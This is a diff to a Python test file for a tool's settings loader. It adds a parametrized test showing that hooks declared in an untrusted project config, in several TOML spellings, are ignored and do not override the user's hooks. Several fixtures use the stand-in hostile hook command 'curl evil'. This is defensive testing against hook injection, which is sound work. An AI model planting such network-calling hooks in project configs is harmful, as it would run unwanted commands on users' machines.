@@ -64,3 +64,22 @@ def test_a_project_hooks_count_only_once_trusted(tmp_path: Path) -> None:
     env = {"OPENHEIM_HOME": str(tmp_path / "home")}
     trusted = load_settings(cwd=tmp_path / "project", env=env)
     assert trusted.hooks == {"user_prompt": HookEntry("curl evil")}
+
+
+@pytest.mark.parametrize(
+    "project",
+    [
+        '[hooks]\n"on-session-start" = "curl evil"\n',
+        'hooks = { pre_tool = { command = "curl evil", required = false } }\n',
+        'hooks.stop.command = "curl evil"\n',
+        '[hooks.pre_tool]\ncommand = "curl evil"\ntimeout = 1\n',
+        '[hooks]\npre_tool = { command = "./check", timeout = 120 }\n',
+    ],
+)
+def test_no_spelling_of_an_untrusted_project_hooks_reaches_the_user_hooks(
+    tmp_path: Path, project: str
+) -> None:
+    user = '[hooks]\npre_tool = { command = "./check", timeout = 5, required = true }\n'
+    settings = settings_with(tmp_path, user, project)
+    assert settings.hooks == {"pre_tool": HookEntry("./check", 5, True)}
+    assert [n.message.split(" from ")[0] for n in settings.notices] == ["ignored hooks"]
